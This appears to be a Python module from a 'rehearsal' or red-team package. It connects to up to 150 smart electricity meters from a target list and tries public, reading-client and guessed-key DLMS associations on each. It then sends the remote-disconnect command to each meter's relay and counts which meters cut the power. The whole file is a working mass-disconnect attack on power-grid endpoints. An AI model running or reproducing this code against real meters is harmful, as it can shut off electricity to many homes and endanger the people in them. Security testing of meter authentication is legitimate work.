"""Talking to the meters without their relay keys: straight to their addresses, as the public and as client 48."""

from __future__ import annotations

import contextlib
import secrets
import socket
from collections.abc import Iterator
from typing import Any, Final

from bahal.dlms import security
from bahal.dlms.association.client import ClientAssociation
from bahal.dlms.association.events import ActionDone, Opened
from bahal.dlms.errors import DlmsError
from bahal.dlms.objects.disconnect import REMOTE_DISCONNECT_METHOD
from bahal.dlms.security import Cipher
from bahal.rehearsal.hostile.material import Material

PUBLIC, READING, SETTING = 16, 32, 48
RELAY_CLASS: Final = 70
RELAY: Final = bytes((0, 0, 96, 3, 10, 255))
METERS: Final = 150
WAIT_S: Final = 3.0


def talk_to_meters(material: Material) -> dict[str, int]:
    """Ask some meters to open their relays, each in four ways; tries, associations opened, and relays that obeyed."""
    tried = opened = obeyed = 0
    for _, _, host, port in material.targets[:METERS]:
        for association in (_public(), _public(client=READING), _guessing(0x30), _guessing(0x10)):
            tried += 1
            with contextlib.suppress(OSError, DlmsError):
                for word in _cut(host, port, association):
                    opened += word == "opened"
                    obeyed += word == "obeyed"
    return {"tried": tried, "opened": opened, "obeyed": obeyed}


def _public(client: int = PUBLIC) -> ClientAssociation:
    """Nothing secret at all: what the standard gives everybody."""
    return ClientAssociation(client_sap=client, mechanism=security.MECHANISM_NONE, security_control=0)


def _guessing(control: int) -> ClientAssociation:
    """The relay's own client under keys that were made up."""
    return ClientAssociation(
        client_sap=SETTING,
        mechanism=security.MECHANISM_HLS_GMAC,
        security_control=control,
        system_title=b"BHL\x00\x00\x00\x00\x30",
        cipher=Cipher(secrets.token_bytes(16), secrets.token_bytes(16)),
        secret=secrets.token_bytes(16),
        counter=1_000_000,
        counter_end=1_000_100,
    )


def _cut(host: str, port: int, association: ClientAssociation) -> Iterator[str]:
    """What the meter let happen: `opened`, and `obeyed` if it said so."""
    with socket.create_connection((host, port), timeout=WAIT_S) as line:
        line.settimeout(WAIT_S)
        line.sendall(association.open())
        asked = False
        while data := line.recv(4096):
            events: list[Any] = association.receive(data)
            if out := association.outgoing():
                line.sendall(out)
            for event in events:
                if isinstance(event, ActionDone):
                    yield "obeyed" if event.result == 0 else "refused"
                    return
                if isinstance(event, Opened) and not asked:
                    asked = True
                    yield "opened"
                    line.sendall(association.action(RELAY_CLASS, RELAY, REMOTE_DISCONNECT_METHOD, b"\x0f\x00"))
